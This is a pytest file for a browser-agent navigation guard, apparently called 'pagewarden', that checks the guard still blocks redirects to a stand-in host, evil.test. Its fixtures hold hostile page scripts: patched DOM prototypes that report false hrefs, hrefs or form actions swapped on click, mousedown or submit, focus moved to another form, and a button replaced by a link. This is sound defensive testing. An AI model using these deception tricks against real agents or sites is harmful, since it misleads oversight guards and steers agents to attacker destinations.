"""The facts reader cannot be made to lie, also on pages loaded before `guard.wrap()`.

The reader runs in Playwright's utility world (an isolated world the page's scripts cannot
reach); destinations are pinned until the action has run, at the click, the submit and the
Navigation API's `navigate` event. Every page here is loaded *before* the wrap, the normal
case when a guard is attached to a running agent. Each attack has a same-site twin that runs.
"""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Iterator

import pytest
from playwright.async_api import Error as PlaywrightError
from playwright.async_api import Page

from pagewarden import Guard
from pagewarden.guard._exceptions import GuardError
from pagewarden.testing import LocalSite, RecordedRequest, Response

from .test_activation import ALLOW_APP

PATCHES = """<script>
  Object.defineProperty(URL.prototype, "href", {get() { return "http://app.test/plain.html"; }});
  Object.defineProperty(HTMLAnchorElement.prototype, "href", {get() { return "/plain.html"; }});
  const realGet = Element.prototype.getAttribute;
  Element.prototype.getAttribute = function (name) {
    return name === "href" ? "/plain.html" : realGet.call(this, name); };
  Event.prototype.composedPath = function () { return []; };
  Event.prototype.preventDefault = function () {};
  EventTarget.prototype.addEventListener = function () {};
  window.getComputedStyle = () => ({getPropertyValue: () => ""});
</script>"""

PAGES = {
    "patched_primitives": '<p><a id="t" href="{D}">Open</a></p>' + PATCHES,
    "href_swapped_in_click_handler": '<p><a id="t" href="/plain.html?c={C}" '
    "onclick=\"this.href='{D}'\">Open</a></p>",
    "action_rewritten_in_late_submit_listener": '<form action="/plain.html?c={C}" method="post">'
    '<input name="q" value="1"><button id="t">Go</button></form><script>'
    "document.addEventListener('pointerdown', () => window.addEventListener('submit',"
    " (e) => { e.target.action = '{D}'; }), {once: true});</script>",
    "placeholder_link_given_href_on_mousedown": '<p><a id="t" onmousedown="this.href=\'{D}\'">Open</a></p>',
    "focus_moved_on_keydown": '<form action="/plain.html?c={C}" method="post"><input id="t" name="q"></form>'
    '<form action="{D}" method="post"><input id="o" name="q"></form><script>'
    "document.getElementById('t').addEventListener('keydown', (e) => {"
    " if (e.key === 'Enter') document.getElementById('o').focus(); });</script>",
}


def _html(case: str, twin: str) -> str:
    dest = f"http://evil.test/plain.html?c={case}" if twin == "evil" else f"/plain.html?c={case}"
    body = PAGES[case].replace("{D}", dest).replace("{C}", case)
    return f'<!doctype html><html><head><meta charset="utf-8"></head><body>{body}</body></html>'


@pytest.fixture(scope="module", autouse=True)
def _routes(site: LocalSite) -> Iterator[None]:
    for case in PAGES:
        for twin in ("evil", "ok"):
            html = _html(case, twin)
            site.route("app.test", f"/iso/{case}-{twin}.html", lambda _r, html=html: Response(html))
    yield


def _reached(site: LocalSite, host: str, case: str) -> list[RecordedRequest]:
    return [r for r in site.requests_to(host, "/plain.html") if r.query.get("c") == [case]]


async def _act(guarded: object, case: str) -> None:
    if case == "focus_moved_on_keydown":
        await guarded.locator("#t").press("Enter")  # type: ignore[attr-defined]
    else:
        await guarded.click("#t")  # type: ignore[attr-defined]


@pytest.mark.parametrize("case", sorted(PAGES))
async def test_page_loaded_before_wrap_cannot_redirect(page: Page, site: LocalSite, case: str) -> None:
    await page.goto(f"http://app.test/iso/{case}-evil.html")  # before the guard is attached
    guarded = Guard(ALLOW_APP, goal="Use the app.").wrap(page)
    try:
        await _act(guarded, case)
    except GuardError as exc:
        assert exc.verdict.decision.value in ("block", "ask")
    await page.wait_for_timeout(400)
    assert _reached(site, "evil.test", case) == []
    assert page.url.startswith("http://app.test/iso/")


@pytest.mark.parametrize("case", sorted(PAGES))
async def test_same_site_twin_runs_on_page_loaded_before_wrap(page: Page, site: LocalSite, case: str) -> None:
    await page.goto(f"http://app.test/iso/{case}-ok.html")
    guarded = Guard(ALLOW_APP, goal="Use the app.").wrap(page)
    before = len(_reached(site, "app.test", case))
    await _act(guarded, case)
    for _ in range(60):
        if len(_reached(site, "app.test", case)) > before:
            break
        await asyncio.sleep(0.05)
    assert len(_reached(site, "app.test", case)) > before


async def test_button_replaced_by_link_on_pointerover(page: Page, site: LocalSite) -> None:
    await page.goto("http://app.test/plain.html")
    await page.evaluate(
        """() => { document.body.innerHTML =
          '<button id="t" type="button" style="width:90px;height:30px">Go</button>';
        document.getElementById('t').addEventListener('pointerover', function () {
          const a = document.createElement('a'); a.href = 'http://evil.test/plain.html?c=replaced';
          a.textContent = 'Go'; a.style = 'display:inline-block;width:90px;height:30px';
          this.replaceWith(a); }); }"""
    )
    guarded = Guard(ALLOW_APP, goal="Use the app.").wrap(page)
    # Playwright may give up on the detached button; the guard must not let the link run.
    with contextlib.suppress(PlaywrightError):
        await guarded.click("#t", timeout=3000)
    await page.wait_for_timeout(400)
    assert _reached(site, "evil.test", "replaced") == []
    assert page.url == "http://app.test/plain.html"


async def test_reader_runs_outside_the_page_world(page: Page) -> None:
    """A page that wraps every DOM primitive cannot see or change the reader's reads."""
    await page.goto("http://app.test/iso/patched_primitives-evil.html")
    guarded = Guard(ALLOW_APP, goal="Use the app.").wrap(page)
    with pytest.raises(GuardError) as caught:
        await guarded.click("#t")
    target = caught.value.verdict.prediction
    assert target is not None and target.navigation is not None
    assert target.navigation.url == "http://evil.test/plain.html?c=patched_primitives"
